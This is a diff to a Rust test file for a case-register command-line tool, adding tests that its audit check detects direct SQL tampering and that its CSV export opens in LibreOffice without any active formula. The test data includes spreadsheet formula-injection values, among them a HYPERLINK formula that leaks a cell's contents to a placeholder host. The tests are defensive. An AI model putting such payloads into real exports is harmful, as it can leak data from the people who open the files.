@@ -1621,6 +1621,39 @@ fn audit_verify_catches_every_kind_of_tampering_with_plain_sql() {
         ),
     ];
     let original = std::fs::read(cli.db()).unwrap();
+    // What the app shows, changed with plain SQL while the history is left alone: the
+    // check names the case and what differs (the triggers stay: none is needed).
+    let changed_state: &[(&str, &str, &str)] = &[
+        (
+            "the description",
+            "UPDATE cases SET document = json_set(document, '$.description', 'Ingenting skjedde.')
+             WHERE ref_seq = 1",
+            "AVVIK-2026-0001 (case)",
+        ),
+        (
+            "the decision (notify → not notify)",
+            "UPDATE case_handling SET decision = replace(decision, 'true', 'false')
+             WHERE case_id = (SELECT id FROM cases WHERE ref_seq = 1)",
+            "AVVIK-2026-0001 (decision)",
+        ),
+        (
+            "a whole case deleted",
+            "PRAGMA foreign_keys = OFF;
+             DELETE FROM case_handling WHERE case_id = (SELECT id FROM cases WHERE ref_seq = 2);
+             DELETE FROM cases WHERE ref_seq = 2;",
+            "(missing)",
+        ),
+    ];
+    for (what, sql, named) in changed_state {
+        std::fs::write(cli.db(), &original).unwrap();
+        raw_store(&cli.db()).execute_batch(sql).unwrap();
+        let err = cli.fails(&["audit", "verify"], None);
+        assert!(
+            err.contains("differ from what their history recorded"),
+            "{what}: {err}"
+        );
+        assert!(err.contains(named), "{what}: expected {named:?} in {err}");
+    }
     for (what, sql, named) in tampering {
         std::fs::write(cli.db(), &original).unwrap();
         {
@@ -1830,7 +1863,8 @@ fn retention_anonymises_only_closed_cases_past_the_period_and_asks_first() {
             conn.execute("UPDATE cases SET status = 'closed' WHERE id = ?1", [&id])
                 .unwrap();
             conn.execute(
-                "UPDATE case_handling SET lessons_learned = 'Spør Kari Nordmann', closed_at = ?2 WHERE case_id = ?1",
+                "UPDATE case_handling SET lessons_learned = 'Spør Kari Nordmann', closed_at = ?2,
+                     closed_by = (SELECT id FROM users WHERE username = 'leder') WHERE case_id = ?1",
                 [&id, closed],
             )
             .unwrap();
@@ -1892,8 +1926,14 @@ fn retention_anonymises_only_closed_cases_past_the_period_and_asks_first() {
     assert_eq!(after["subjects_count"], before["subjects_count"]);
     assert!(after["anonymised_at"].is_string());
     // The other case is untouched, the history intact, and a second run finds nothing.
+    // The check names the recent case: this test closed it with plain SQL, which is
+    // exactly a change behind Avvik's back (the anonymised one recorded its new state).
     assert_ne!(show(&recent)["title"], "[anonymisert]");
-    assert!(cli.ok(&["audit", "verify"], None)["broken"].is_null());
+    let err = cli.fails(&["audit", "verify"], None);
+    assert!(
+        err.contains("1 case(s) differ") && err.contains(&format!("{recent} (case, closing)")),
+        "{err}"
+    );
     // The filings stay append-only: anonymising was their one exception.
     {
         let conn = raw_store(&cli.db());
@@ -2224,7 +2264,10 @@ fn the_released_store_passes_audit_verify() {
     );
     let verified: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(verified["head_found"], true);
-    assert_eq!(verified["events"], 33);
+    // The release's 33 events, and one `state_recorded` for each of its three submitted
+    // cases, added once when this build first opened it.
+    assert_eq!(verified["events"], 36);
+    assert_eq!(verified["state"], serde_json::json!([]), "{verified}");
     assert!(verified["broken"].is_null(), "{verified}");
     // The wrong passphrase is «locked», not a broken history.
     let out = cli.run_with_env(&["audit", "verify"], &[("AVVIK_PASSPHRASE", "feil")]);
@@ -2299,4 +2342,141 @@ fn an_admin_adds_changes_disables_and_enables_people() {
     );
     assert_eq!(reset["user"]["must_change_password"], true);
     assert_eq!(code_of(&kari.run(&["case", "list"], None)), 5);
+}
+
+/// LibreOffice, when the machine has it (the test command installs it; under `CI=true`
+/// it must be there).
+fn soffice() -> Option<&'static str> {
+    let found = Command::new("soffice")
+        .arg("--version")
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    if !found && std::env::var("CI").as_deref() == Ok("true") {
+        panic!(
+            "LibreOffice (soffice) is missing; the test command installs libreoffice-calc-nogui"
+        );
+    }
+    found.then_some("soffice")
+}
+
+/// The cells of the first sheet as LibreOffice reads a CSV file (separator `;`, `"`
+/// around texts, UTF-8), each as (formula, text): converted to ODS headless and read
+/// back from its content.xml.
+fn cells_in_libreoffice(soffice: &str, csv: &Path) -> Vec<(Option<String>, String)> {
+    let dir = csv.parent().unwrap();
+    let profile = dir.join("lo-profile");
+    let out = Command::new(soffice)
+        .arg(format!(
+            "-env:UserInstallation=file://{}",
+            profile.display()
+        ))
+        .args([
+            "--headless",
+            "--infilter=CSV:59,34,76,1",
+            "--convert-to",
+            "ods",
+            "--outdir",
+        ])
+        .arg(dir)
+        .arg(csv)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let ods = csv.with_extension("ods");
+    let read = Command::new("python3")
+        .args([
+            "-c",
+            "import sys, zipfile; sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read('content.xml').decode())",
+        ])
+        .arg(&ods)
+        .output()
+        .unwrap();
+    let xml = String::from_utf8(read.stdout).unwrap();
+    xml.split("<table:table-cell")
+        .skip(1)
+        .map(|cell| {
+            let head = &cell[..cell.find('>').unwrap_or(cell.len())];
+            let formula = head
+                .split("table:formula=\"")
+                .nth(1)
+                .map(|f| f[..f.find('"').unwrap()].to_owned());
+            let text = cell
+                .split("<text:p>")
+                .nth(1)
+                .map(|t| t[..t.find("</text:p>").unwrap_or(t.len())].to_owned())
+                .unwrap_or_default();
+            (formula, text)
+        })
+        .collect()
+}
+
+#[test]
+fn the_csv_export_opens_in_libreoffice_without_a_single_formula() {
+    let Some(soffice) = soffice() else {
+        eprintln!("skipped: LibreOffice is not installed here");
+        return;
+    };
+    let cli = Cli::new().with_systems();
+    let hostile = [
+        r#"=HYPERLINK("http://x.example/?"&A1,"Klikk")"#,
+        "=1+2",
+        " =1+1",
+        "@SUM(1+1)",
+        "+47 22 00 00 00",
+        "-2+3",
+    ];
+    for title in hostile {
+        let doc = serde_json::json!({"title": title, "reporter": {"name": "=1+2"}});
+        cli.ok(
+            &["case", "new", "--draft", "--json", "-"],
+            Some(&doc.to_string()),
+        );
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let csv = dir.path().join("register.csv");
+    cli.ok_silent(&[
+        "case",
+        "export",
+        "--format",
+        "csv",
+        "--output",
+        csv.to_str().unwrap(),
+    ]);
+    let cells = cells_in_libreoffice(soffice, &csv);
+    let formulas: Vec<_> = cells.iter().filter(|(f, _)| f.is_some()).collect();
+    assert!(formulas.is_empty(), "formulas in the export: {formulas:?}");
+    // Each is there, as the text it was.
+    for needle in [
+        "HYPERLINK",
+        "=1+2",
+        "=1+1",
+        "@SUM(1+1)",
+        "+47 22 00 00 00",
+        "-2+3",
+    ] {
+        assert!(
+            cells.iter().any(|(_, text)| text.contains(needle)),
+            "{needle} is in the sheet as text: {cells:?}"
+        );
+    }
+    // The control: the same cells unprotected are formulas to LibreOffice, so the check
+    // above can fail.
+    let raw = dir.path().join("raw.csv");
+    std::fs::write(
+        &raw,
+        "\u{feff}a;b\r\n=1+2;\"=HYPERLINK(\"\"http://x.example\"\",\"\"Klikk\"\")\"\r\n",
+    )
+    .unwrap();
+    let control = cells_in_libreoffice(soffice, &raw);
+    assert_eq!(
+        control.iter().filter(|(f, _)| f.is_some()).count(),
+        2,
+        "{control:?}"
+    );
 }
